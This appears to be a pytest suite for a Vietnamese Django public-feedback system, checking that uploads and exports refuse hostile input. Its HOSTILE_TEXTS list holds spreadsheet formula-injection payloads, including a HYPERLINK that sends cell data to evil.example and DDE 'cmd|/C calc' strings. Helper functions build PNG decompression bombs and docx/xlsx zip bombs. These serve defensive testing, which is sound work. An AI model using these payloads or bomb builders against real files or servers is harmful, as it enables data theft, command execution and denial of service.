"""Hostile input gets a clear Vietnamese refusal and a 4xx, never a 500 or a worker killed: formula
cells in exports, decompression bombs, zip bombs, oversized bodies and spreadsheets.

Every bomb is made here, small on the wire and huge once decoded or unpacked. The refusals are shown to
happen before anything is decoded or unpacked: the tests make Pillow's pixel decoding and openpyxl's
loading fail if they are reached, so a guard that came too late would fail the test, not the machine.
"""

import io
import os
import struct
import zipfile
import zlib

import pytest
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from PIL import Image, ImageFile

from congvu.core import spreadsheets, uploads
from congvu.core.spreadsheets import Book, SpreadsheetError, read_table
from congvu.core.uploads import OFFICE, CheckedFileField, check_office_archive, check_upload
from congvu.feedback.models import Attachment, Case
from congvu.people.models import Staff
from congvu.regulations.models import WorkingRegulation
from tests.factories import StaffFactory
from tests.feedback.factories import aware, make_case, topic
from tests.inspections.factories import make_visit

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-5 ngày",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# Bombs ------------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A valid black-and-white PNG of width x height: a few KB on the wire, width*height pixels decoded."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + the row's bits, all zero
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def small_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(buffer, format="PNG")
    return buffer.getvalue()


def _stream_zeros(archive: zipfile.ZipFile, name: str, size: int) -> None:
    with archive.open(name, "w") as member:
        block = b"\x00" * MB
        for _ in range(size // MB):
            member.write(block)


def docx_bomb(unpacked: int = 300 * MB) -> bytes:
    """A .docx whose one image unpacks to `unpacked` bytes of zeros (about 1,000 times its packed size)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        _stream_zeros(archive, "word/media/image1.png", unpacked)
    return buffer.getvalue()


def xlsx_bytes(rows, header=("Họ và tên",)) -> bytes:
    workbook = Workbook()
    workbook.active.append(list(header))
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_shared_strings(shared_strings: bytes | None = None, *, repeat: int = 0) -> bytes:
    """A real .xlsx whose xl/sharedStrings.xml is replaced: by `shared_strings`, or by `repeat` MB of one
    repeated string (a 200 MB table packs into a few hundred KB)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Nguyễn Văn A"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != "xl/sharedStrings.xml":
                archive.writestr(member, source.read(member))
        with archive.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            if shared_strings is not None:
                part.write(shared_strings)
            block = b"a" * MB
            for _ in range(repeat):
                part.write(block)
            part.write(b"</t></si></sst>")
    return buffer.getvalue()


@pytest.fixture
def no_decoding(monkeypatch):
    """Decoding an image's pixels or loading a workbook fails the test: a refusal must come first."""

    def refuse(*args, **kwargs):
        raise AssertionError("decoded or loaded before the guard refused it")

    monkeypatch.setattr(ImageFile.ImageFile, "load", refuse)
    monkeypatch.setattr(Image.Image, "load", refuse)
    monkeypatch.setattr(spreadsheets, "load_workbook", refuse)


def _public_form(ward, **overrides):
    data = {
        "form_token": "b" * 32,
        "unit": ward.pk,
        "topic": topic().pk,
        "title": "Đường ngõ 12 bị ngập",
        "content": "Mỗi khi mưa to, ngõ 12 phố Hoàng Văn Thụ bị ngập sâu, đề nghị phường khơi thông cống.",
        "sender_name": "Trần Thị Mai",
        "sender_address": "Ngõ 12, phường An Bình",
        "sender_phone": "0987 654 321",
        "sender_email": "mai@example.vn",
        "consent": "on",
    }
    data.update(overrides)
    return data


# Formula injection in exports -------------------------------------------------------------------------


def _cells(content: bytes):
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_feedback_register_export_keeps_hostile_names_as_text(login, ward, unit_head):
    for index, text in enumerate(HOSTILE_TEXTS):
        make_case(ward, received_at=aware(2026, 3, 2 + index), sender_name=text, title=f"Phản ánh {text}")
    response = login(unit_head).get(
        reverse("feedback:register_export"),
        {"unit": ward.pk, "date_from": "01/03/2026", "date_to": "31/03/2026"},
    )
    assert response.status_code == 200
    cells = list(_cells(response.content))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for text in HOSTILE_TEXTS:
        assert any(value.endswith(text.strip()) for value in texts), text  # the words, unchanged
    quoted = [cell for cell in cells if spreadsheets.looks_like_formula(cell.value)]
    assert len(quoted) == len(HOSTILE_TEXTS) and all(cell.quotePrefix for cell in quoted)


def test_staff_export_keeps_hostile_names_as_text(login, programme_office, ward):
    for index, text in enumerate(HOSTILE_TEXTS):
        StaffFactory(unit=ward, full_name=text, badge_number=f"HX{index:03d}")
    response = login(programme_office).get(reverse("people:staff_export"))
    assert response.status_code == 200
    cells = list(_cells(response.content))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = {cell.value for cell in cells}
    assert set(HOSTILE_TEXTS) <= names
    assert all(cell.quotePrefix for cell in cells if cell.value in HOSTILE_TEXTS)


def test_numbers_stay_numbers_and_text_that_looks_like_a_sum_stays_text():
    book = Book()
    book.sheet("Số liệu").title_block("=TITLE()").header(["=A", "Giá trị"], numbered=True).rows(
        [["-5 ngày", -5], ["@x", 2.5], ["bình thường", 0]]
    )
    book.workbook.active.append(["=1+1"])  # written around the SheetWriter, as the reports' charts do
    sheet = load_workbook(io.BytesIO(book.to_bytes())).active
    by_value = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert by_value[-5].data_type == "n" and by_value[2.5].data_type == "n"
    for text in ("=TITLE()", "=A", "-5 ngày", "@x", "=1+1"):
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
    assert not by_value["bình thường"].quotePrefix


def test_control_characters_in_a_citizens_text_do_not_break_the_export(login, ward, unit_head):
    make_case(ward, received_at=aware(2026, 3, 2), title="Đèn\x01 đường\x0b hỏng\x1f")
    response = login(unit_head).get(
        reverse("feedback:register_export"),
        {"unit": ward.pk, "date_from": "01/03/2026", "date_to": "31/03/2026"},
    )
    assert response.status_code == 200
    assert any("Đèn đường hỏng" in str(cell.value) for cell in _cells(response.content))


# Images -------------------------------------------------------------------------------------------------


def test_a_png_of_20000_by_20000_is_refused_from_its_header(client, ward, no_decoding):
    bomb = png_bomb(20000, 20000)
    assert len(bomb) < 100 * 1024
    upload = SimpleUploadedFile("anh.png", bomb, content_type="image/png")
    response = client.post(reverse("feedback:submit"), {**_public_form(ward), "files": [upload]})
    assert response.status_code == 200
    assert "quá lớn (tối đa 50 megapixel)" in response.content.decode()
    assert not Case.objects.exists() and not Attachment.objects.exists()


def test_pillows_own_bomb_error_is_a_refusal_not_a_500(settings):
    # With a limit above Pillow's, Pillow's own DecompressionBombError is what stops the image.
    settings.UPLOAD_IMAGE_MAX_PIXELS = 10**10
    with pytest.raises(ValidationError, match="quá lớn"):
        check_upload(SimpleUploadedFile("anh.png", png_bomb(20000, 20000)))


def test_five_13000_pixel_squares_in_one_request_are_refused_without_decoding(client, ward, no_decoding):
    bomb = png_bomb(13000, 13000)
    files = [SimpleUploadedFile(f"anh{n}.png", bomb, content_type="image/png") for n in range(5)]
    response = client.post(reverse("feedback:submit"), {**_public_form(ward), "files": files})
    assert response.status_code == 200
    assert response.content.decode().count("quá lớn (tối đa 50 megapixel)") == 5
    assert not Case.objects.exists()


def test_the_images_of_one_request_share_a_pixel_budget(client, ward, no_decoding):
    # Each 7000 x 7000 (49 MP) is within the per-image limit; the third passes the request's 100 MP.
    image = png_bomb(7000, 7000)
    files = [SimpleUploadedFile(f"anh{n}.png", image, content_type="image/png") for n in range(5)]
    response = client.post(reverse("feedback:submit"), {**_public_form(ward), "files": files})
    body = response.content.decode()
    assert response.status_code == 200 and "Các ảnh gửi cùng lúc quá lớn" in body
    assert "anh0.png" not in body and "anh2.png" in body
    assert not Case.objects.exists()


def test_an_upload_checked_by_the_form_and_the_service_is_counted_once():
    image = SimpleUploadedFile("anh.png", png_bomb(7000, 7000))
    with uploads.pixel_budget(60_000_000):
        check_upload(image)
        check_upload(image)  # the service checks the same file again: not a second 49 MP


def test_an_inspection_photo_bomb_gets_a_400(login, inspector, city, ward, no_decoding):
    from congvu.inspections.models import VisitPhoto

    visit = make_visit(city, ward, head=inspector)
    upload = SimpleUploadedFile("anh.png", png_bomb(20000, 20000), content_type="image/png")
    response = login(inspector).post(
        reverse("inspections:visit_photo", args=[visit.pk]), {"photo": upload}, HTTP_X_REQUESTED_WITH="fetch"
    )
    assert response.status_code == 400 and "megapixel" in response.json()["errors"][0]
    assert not VisitPhoto.objects.exists()


def test_a_good_photo_still_goes_through(client, ward):
    upload = SimpleUploadedFile("anh.png", small_png(), content_type="image/png")
    response = client.post(reverse("feedback:submit"), {**_public_form(ward), "files": [upload]})
    assert response.status_code == 302 and Attachment.objects.count() == 1


# Office files (zip bombs) ------------------------------------------------------------------------------


def test_a_docx_zip_bomb_is_not_stored(client, ward):
    upload = SimpleUploadedFile("don.docx", docx_bomb(), content_type="application/octet-stream")
    response = client.post(reverse("feedback:submit"), {**_public_form(ward), "files": [upload]})
    assert response.status_code == 200 and "cấu trúc bất thường" in response.content.decode()
    assert not Case.objects.exists() and not Attachment.objects.exists()


def test_a_docx_zip_bomb_is_refused_as_a_regulation_file(login, unit_head, ward):
    upload = SimpleUploadedFile("quy-che.docx", docx_bomb(50 * MB))
    response = login(unit_head).post(
        reverse("regulations:regulation_new"),
        {
            "unit": ward.pk,
            "kind": "issued",
            "title": "Quy chế",
            "number": "1/QĐ",
            "signed_on": "01/02/2019",
            "file": upload,
        },
    )
    assert response.status_code == 200 and "cấu trúc bất thường" in response.content.decode()
    assert not WorkingRegulation.objects.exists()


def test_office_archive_limits_each_refuse(settings):
    def archive(members):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
            zipped.writestr("[Content_Types].xml", "<Types/>")
            for name, data in members:
                zipped.writestr(name, data)
        buffer.seek(0)
        return buffer

    many = archive([(f"word/part{n}.xml", "") for n in range(uploads.OFFICE_MAX_MEMBERS + 1)])
    with pytest.raises(ValidationError, match="cấu trúc bất thường"):
        check_office_archive(many, name="many.docx")
    settings.UPLOAD_OFFICE_MAX_UNCOMPRESSED_BYTES = MB
    incompressible = archive([("word/media/photo.jpg", os.urandom(2 * MB))])
    with pytest.raises(ValidationError, match="cấu trúc bất thường"):
        check_office_archive(incompressible, name="big.docx")
    settings.UPLOAD_OFFICE_MAX_UNCOMPRESSED_BYTES = 200 * MB
    check_office_archive(incompressible, name="big.docx")  # within the limit: a real photo in a letter
    part = archive([("xl/sharedStrings.xml", os.urandom(MB).hex())])
    with pytest.raises(ValidationError):
        check_office_archive(part, name="t.xlsx", part_limits={"xl/sharedStrings.xml": MB})


def test_a_forged_directory_is_refused_before_it_is_listed(monkeypatch):
    # The end record announces 60,000 members: zipfile is never asked to list them.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("[Content_Types].xml", "<Types/>")
        zipped.writestr("word/document.xml", "<w:document/>")
    data = bytearray(buffer.getvalue())
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 60000, 60000)
    monkeypatch.setattr(zipfile, "ZipFile", lambda *a, **k: pytest.fail("the directory was listed"))
    with pytest.raises(ValidationError, match="cấu trúc bất thường"):
        check_office_archive(io.BytesIO(bytes(data)), name="forged.docx")


def test_a_real_docx_is_still_accepted():
    from docx import Document

    buffer = io.BytesIO()
    Document().save(buffer)
    assert check_upload(SimpleUploadedFile("thu.docx", buffer.getvalue())) == OFFICE


# Spreadsheet imports -----------------------------------------------------------------------------------


IMPORT_VIEWS = ["people:staff_import", "people:leave_import", "appraisals:import"]


@pytest.mark.parametrize("view", IMPORT_VIEWS)
def test_an_import_with_a_200_mb_shared_strings_part_is_refused_before_loading(
    login, programme_office, view, no_decoding
):
    upload = SimpleUploadedFile("can-bo.xlsx", xlsx_with_shared_strings(repeat=200))
    assert upload.size < 2 * MB
    before = Staff.objects.count()
    response = login(programme_office).post(reverse(view), {"file": upload})
    assert response.status_code == 400
    assert "cấu trúc bất thường" in response.context["file_error"]
    assert Staff.objects.count() == before


def test_a_shared_strings_table_too_large_to_hold_is_refused_even_if_not_a_bomb(no_decoding):
    # Random text packs only 2:1, so the ratio check lets it by; the part's own limit does not.
    upload = SimpleUploadedFile("t.xlsx", xlsx_with_shared_strings(os.urandom(11 * MB).hex().encode()))
    with pytest.raises(SpreadsheetError, match="cấu trúc bất thường"):
        read_table(upload, check_header=lambda header: {}, max_rows=10)


def test_an_import_reads_at_most_max_columns():
    wide = SimpleUploadedFile("t.xlsx", xlsx_bytes([range(500)], header=[f"c{n}" for n in range(500)]))
    seen = {}

    def check_header(header):
        seen["width"] = len(header)
        return {"first": 0}

    table = read_table(wide, check_header=check_header, max_rows=10)
    assert seen["width"] == spreadsheets.MAX_COLUMNS and table.rows == [(2, {"first": 0})]


def test_an_import_that_is_not_a_zip_gets_the_usual_message():
    with pytest.raises(SpreadsheetError, match="Hãy tải lên tệp Excel .xlsx"):
        read_table(SimpleUploadedFile("x.xlsx", b"not excel"), check_header=lambda h: {}, max_rows=10)


# Request bodies ----------------------------------------------------------------------------------------


@pytest.fixture
def body_never_read(monkeypatch):
    from django.http import multipartparser

    def refuse(*args, **kwargs):
        raise AssertionError("the body was parsed")

    monkeypatch.setattr(multipartparser.MultiPartParser, "parse", refuse)


def _post_announcing(client, path, length, content_type="multipart/form-data; boundary=xyz"):
    # The test client sends 5 bytes and announces `length`: reading the body would fail loudly.
    return client.generic("POST", path, data=b"--xyz", content_type=content_type, CONTENT_LENGTH=str(length))


def test_a_300_mb_body_is_refused_from_its_content_length(client, db, body_never_read):
    response = _post_announcing(client, reverse("feedback:submit"), 300 * MB)
    assert response.status_code == 413
    assert "Nội dung gửi lên quá lớn" in response.content.decode()


def test_an_oversized_api_body_gets_json(client, db, body_never_read):
    response = _post_announcing(client, "/api/v1/ratings", 300 * MB, content_type="application/json")
    assert response.status_code == 413 and "quá lớn" in response.json()["detail"]


def test_a_body_without_files_has_the_smaller_limit(client, db, settings):
    response = _post_announcing(
        client,
        reverse("feedback:submit"),
        settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1,
        "application/x-www-form-urlencoded",
    )
    assert response.status_code == 413


def test_a_nonsense_content_length_is_a_400(client, db):
    response = _post_announcing(client, reverse("feedback:submit"), "-1")
    assert response.status_code == 400 and "Content-Length" in response.content.decode()


def test_a_body_within_the_limits_is_read(client, ward):
    response = client.post(reverse("feedback:submit"), _public_form(ward))
    assert response.status_code == 302 and Case.objects.count() == 1


def test_limits_are_set_deliberately(settings):
    from congvu import settings as project_settings

    assert project_settings.REQUEST_BODY_MAX_BYTES == 60 * MB
    assert project_settings.DATA_UPLOAD_MAX_MEMORY_SIZE == 5 * MB
    assert project_settings.DATA_UPLOAD_MAX_NUMBER_FIELDS == 2000
    assert project_settings.DATA_UPLOAD_MAX_NUMBER_FILES == 20
    assert "congvu.core.middleware.RequestLimitsMiddleware" in project_settings.MIDDLEWARE
    limits = project_settings.MIDDLEWARE.index("congvu.core.middleware.RequestLimitsMiddleware")
    assert limits < project_settings.MIDDLEWARE.index("django.middleware.csrf.CsrfViewMiddleware")


def test_too_many_fields_is_a_400_not_a_500(client, db, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 10
    response = client.post(reverse("feedback:submit"), {f"f{n}": "x" for n in range(20)})
    assert response.status_code == 400


# The admin site --------------------------------------------------------------------------------------------


def _admin_file_fields():
    """(model admin, field name, form field) for every file of every model the admin site edits."""
    from django.test import RequestFactory

    request = RequestFactory().get("/admin/")
    for model, model_admin in admin.site._registry.items():
        admins = [model_admin, *(inline(model, admin.site) for inline in model_admin.inlines)]
        for each in admins:
            for field in each.model._meta.get_fields():
                if isinstance(field, models.FileField):
                    yield each, field.name, each.formfield_for_dbfield(field, request)


def test_every_file_the_admin_site_edits_goes_through_the_checks():
    found = list(_admin_file_fields())
    assert {name for _admin, name, _field in found} >= {"photo", "file"}
    for model_admin, name, form_field in found:
        assert isinstance(form_field, CheckedFileField), f"{type(model_admin).__name__}.{name}"


def test_an_admin_photo_bomb_is_a_form_error(no_decoding):
    model_admin = admin.site._registry[Staff]
    field = model_admin.formfield_for_dbfield(Staff._meta.get_field("photo"), None)
    with pytest.raises(ValidationError, match="megapixel"):
        field.clean(SimpleUploadedFile("anh.png", png_bomb(20000, 20000)))


def test_remediation_evidence_refuses_both_bombs_and_stores_nothing(login, inspector, city, ward, unit_head):
    from congvu.inspections.models import Finding, RemedialTask, TaskEvidence
    from tests.inspections.factories import closed_visit

    closed_visit(city, ward, head=inspector, fail_codes=("so-tiep-nhan",))
    login(inspector).post(
        reverse("inspections:finding_detail", args=[Finding.objects.get().pk]),
        {"action": "remedial", "severity": "moderate", "content": "Cập nhật sổ", "working_days": "5"},
    )
    task = RemedialTask.objects.get()
    client = login(unit_head)
    for upload, refusal in [
        (SimpleUploadedFile("so.docx", docx_bomb(50 * MB)), "cấu trúc bất thường"),
        (SimpleUploadedFile("so.png", png_bomb(20000, 20000)), "megapixel"),
    ]:
        response = client.post(
            reverse("inspections:task_detail", args=[task.pk]), {"report": "Đã cập nhật", "files": upload}
        )
        assert response.status_code == 400 and refusal in response.content.decode()
    task.refresh_from_db()
    assert task.status == RemedialTask.Status.OPEN and not TaskEvidence.objects.exists()
